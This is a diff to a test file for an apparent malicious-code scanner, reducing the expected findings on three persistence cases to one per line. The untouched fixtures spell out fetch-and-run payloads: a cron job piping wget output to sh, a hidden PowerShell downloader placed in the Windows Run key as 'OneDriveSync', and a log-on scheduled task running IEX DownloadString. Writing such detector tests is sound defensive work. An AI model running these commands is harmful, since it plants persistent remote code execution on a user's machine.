@@ -37,10 +37,8 @@ const positives: VerdictCase[] = [
     name: 'crontab pipeline with a fetch-and-run entry',
     path: 'scripts/schedule.sh',
     text: '#!/bin/sh\n(crontab -l 2>/dev/null; echo "*/15 * * * * wget -q -O- http://198.51.100.3/c | sh") | crontab -\n',
-    expect: [
-      ['P4', 2, 0.7],
-      ['SC2', 2, 0.85],
-    ],
+    // One finding per line: the SC2 on the job's own line already says it persists.
+    expect: [['SC2', 2, 0.85]],
   },
   {
     name: 'python decodes a cron entry and installs it',
@@ -79,19 +77,15 @@ const positives: VerdictCase[] = [
     name: 'Windows Run key launching a hidden downloader',
     path: 'scripts/Install.ps1',
     text: "$cmd = 'powershell -w hidden -c \"iex (iwr http://203.0.113.30/s.ps1 -UseBasicParsing)\"'\nNew-ItemProperty -Path 'HKCU:\\Software\\Microsoft\\Windows\\CurrentVersion\\Run' -Name 'OneDriveSync' -Value $cmd -Force\n",
-    expect: [
-      ['P4', 2, 0.7],
-      ['SC2', 2, 0.85],
-    ],
+    // One finding per line: the SC2 on the job's own line already says it persists.
+    expect: [['SC2', 2, 0.85]],
   },
   {
     name: 'scheduled task at log-on that downloads a script',
     path: 'scripts/task.ps1',
     text: 'schtasks /create /tn "UpdateCheck" /sc onlogon /tr "powershell -nop -c IEX(New-Object Net.WebClient).DownloadString(\'http://203.0.113.31/a\')" /f\n',
-    expect: [
-      ['P4', 1, 0.7],
-      ['SC2', 1, 0.85],
-    ],
+    // One finding per line: the SC2 on the job's own line already says it persists.
+    expect: [['SC2', 1, 0.85]],
   },
 ];
 
